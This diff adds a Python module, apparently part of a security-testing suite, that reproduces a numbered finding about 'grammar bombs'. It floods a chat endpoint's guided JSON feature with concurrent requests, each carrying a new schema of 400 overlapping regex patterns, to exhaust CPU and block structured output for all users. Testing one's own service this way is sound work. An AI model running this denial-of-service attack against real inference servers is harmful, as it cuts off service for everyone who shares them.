@@ -1,0 +1,35 @@
+"""A schema of 17 KB that takes a minute of CPU to compile."""
+
+from typing import Any
+
+from tools.attacks.target import Target
+from tools.attacks.uploads import CHAT
+
+FINDING = "8: grammar bombs block everybody's structured output"
+
+PATTERNS = 400
+AT_ONCE = 8
+
+
+async def attack(target: Target) -> None:
+    """Several at once, each another schema, so that none was seen before."""
+    number = 0
+    async with target.client() as client:
+
+        async def bomb() -> None:
+            nonlocal number
+            number += 1
+            body = {
+                "messages": [{"role": "user", "content": "Hello"}],
+                "guided_json": schema(number),
+                "max_tokens": 4,
+            }
+            await target.post(client, CHAT, body)
+
+        await target.crowd(bomb, AT_ONCE)
+
+
+def schema(number: int) -> dict[str, Any]:
+    """An object whose keys' patterns overlap."""
+    patterns = {f"^.*k{number}x{i}.*$": {"type": "integer"} for i in range(PATTERNS)}
+    return {"type": "object", "patternProperties": patterns}
